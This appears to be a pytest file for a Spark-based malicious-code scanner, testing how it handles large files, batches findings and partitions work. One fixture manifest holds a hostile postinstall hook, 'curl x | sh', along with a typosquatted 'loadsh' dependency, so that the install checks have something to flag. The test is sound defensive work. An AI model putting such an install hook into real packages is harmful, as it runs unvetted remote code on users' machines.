"""Findings that only larger tables show: files over a scan's limit, and workers that held what a whole batch makes."""

import json
import time

import pandas as pd
import pytest
from pyspark.sql import Row
from pyspark.sql import functions as F

from quillscan.functions.catalog import Rule
from quillscan.operators import manifest, scan
from quillscan.plans import derived, queries
from quillscan.sources import tables
from quillscan.streaming import monitor, state
from tests.oracle import connect, same


class Taken:
    """Stands for a table: any step gives it back, and mapInPandas the function that tasks would run."""

    def __getattr__(self, name):
        return lambda *a, **k: self

    def mapInPandas(self, run, schema):  # noqa: N802
        return run


def _documents(spark, path, rows):
    """A table of one large file among small ones, which read_table doesn't deal out."""
    rows.coalesce(1).write.mode("append").parquet(f"{path}/documents.parquet")
    for _ in range(spark.sparkContext.defaultParallelism):
        rows.limit(0).coalesce(1).write.mode("append").parquet(f"{path}/documents.parquet")
    return str(path)


def _duck(path):
    c = connect(path)
    c.execute(f"CREATE OR REPLACE VIEW documents AS SELECT * FROM '{path}/documents.parquet/*.parquet'")
    return c


def test_tree_files_of_more_bytes_than_a_scan_reads(spark, tmp_path):
    many = F.when(F.col("doc_id") == 7, 11_000_000).when(F.col("doc_id") == 14, 6_000_000).otherwise(100_000)
    rows = spark.range(800).select(F.col("id").alias("doc_id"), F.lit("en").alias("lang"), F.lit("s").alias("source"))
    rows = rows.withColumn("text", F.concat(F.col("doc_id").cast("string"), F.repeat(F.lit("é"), (many / 2).cast("int")))).withColumn("n_chars", F.length("text").cast("long"))
    path = _documents(spark, tmp_path, rows)
    assert same(queries.q_tree_files(spark, path), _duck(path), queries.ORACLE["q_tree_files"]) == 3


def test_a_scan_leaves_the_worker_in_slices(spark):
    texts = pd.DataFrame({"path": [f"{k}.js" for k in range(64)], "content": ["ab " * 40_000] * 64})
    rule = Rule("T-001", "t", "t", "low", "regex", "ab")
    frames = [len(x) for x in scan.scan(Taken(), [rule], deobfuscate=False)(iter([texts.head(30)]))]
    assert sum(frames) == 30 * 40_000 and max(frames) <= 10 * 40_000
    assert max(len(x) for x in scan.rewritten(Taken())(iter([texts]))) <= 10


def _outcomes(n):
    finding = {"rule_id": "C-001", "rule_name": "n", "description": "d" * 80, "severity": "high", "file": "f", "line": 1, "column": 2, "snippet": "s" * 40, "tags": ["c2"], "deobfuscated": False, "severity_rank": 3, "rule_ordinal": 0, "match_ordinal": 0}
    facts = json.dumps({"findings": [finding] * 200, "score": 40, "level": "HIGH", "verdict": "BLOCK", "tags": [], "categories": []})
    return pd.DataFrame({"subject": [str(k) for k in range(n)], "scan": 1, "fresh": True, "facts": facts})


@pytest.mark.parametrize("name", ["q_payloads", "q_sarif_results", "q_reports"])
def test_reports_leave_the_worker_in_slices(spark, monkeypatch, name):
    told = list(monitor.reports(Taken())(iter([_outcomes(200)])))
    assert sum(map(len, told)) == 200 and max(map(len, told)) <= 50
    monkeypatch.setattr(queries, "_told", lambda *a, **k: Taken())
    made = list(queries.QUERIES[name](spark, "")(iter([pd.concat(told, ignore_index=True)])))
    assert len(made) > 3 and sum(map(len, made)) == 200 * (200 if name == "q_sarif_results" else 1)


@pytest.mark.parametrize("made", [derived.manifests, derived.commented, derived.words, derived.packages, queries._documents])
def test_costly_work_on_one_large_file_is_dealt_over_all_tasks(spark, tmp_path, monkeypatch, made):
    monkeypatch.setattr(tables, "SMALL", 0)  # as if the file were a large one
    spark.range(50).select(F.col("id").alias("doc_id"), F.lit("one two three").alias("text"), F.lit("en").alias("lang"), F.lit("s").alias("source")).coalesce(1).write.parquet(f"{tmp_path}/documents.parquet")
    ids = made(spark, str(tmp_path)).select(F.spark_partition_id().alias("p")).distinct().count()
    assert ids >= (3 if made is derived.words else spark.sparkContext.defaultParallelism)


def test_only_the_manifest_checks_asked_for_are_worked_out(spark):
    rows = spark.createDataFrame([("a/package.json", '{"scripts": {"postinstall": "curl x | sh"}, "dependencies": {"loadsh": "1"}, "bin": "eval.js"}')], "path string, content string")
    assert {r["rule_id"] for r in manifest.check(rows, kinds=("install",)).collect()} == {"MANIFEST-001"}
    assert {r["rule_id"] for r in manifest.check(rows).collect()} == {"MANIFEST-001", "MANIFEST-002", "MANIFEST-004"}


def test_state_of_many_scans_costs_little_for_each():
    class Keys(dict):
        def getMapState(self, *a):  # noqa: N802
            return self

        keys = lambda self: iter([(k,) for k in dict.keys(self)])
        removeKey = lambda self, k: self.pop(k[0])
        updateValue = lambda self, k, v: self.__setitem__(k[0], v)

    kept, state_ = state.FindingKeys(), Keys(gone=(1,))
    kept.init(state_)
    rows = [Row(subject="s", scan=k, key=f"k{k % 3}" if k % 5 else None, payload="p") for k in range(20_000)]
    began = time.process_time()
    out = list(kept.handleInputRows(("s",), iter(rows), None))
    assert time.process_time() - began < 5 and len(out) == 20_000  # a frame for each scan took 3 ms
    assert [tuple(r)[1:] for r in out[:3]] == [(0, None, None, False, False), (1, "k1", "p", True, False), (2, "k2", "p", True, False)]
    assert dict(state_) == {"k1": (19_999,)}


@pytest.mark.parametrize("taken", [lambda s: scan.one_pass(s), lambda s: scan.scan(s, [Rule("T-001", "t", "t", "low", "regex", "ab")], deobfuscate=False)])
def test_texts_are_not_made_before_repeated_rows_go(spark, taken):
    made = F.when(F.length("w") > 0, F.concat(F.lit("made of "), "w"))
    rows = spark.range(100).select((F.col("id") % 3).cast("string").alias("w")).distinct().repartition(4).select(F.col("w").alias("path"), F.lit("pretty").alias("pass"), made.alias("content"))
    out = taken(rows.unionByName(spark.createDataFrame([("a.js", "pretty", None), ("b.js", "pretty", "ab;")], "path string, pass string, content string")))
    assert out._jdf.queryExecution().optimizedPlan().toString().count("made of ") == 1
    assert "b.js" in {r[0] for r in out.select(out["path" if "path" in out.columns else "file"]).collect()} and out.where("content IS NULL" if "content" in out.columns else "file = 'a.js'").count() == 0
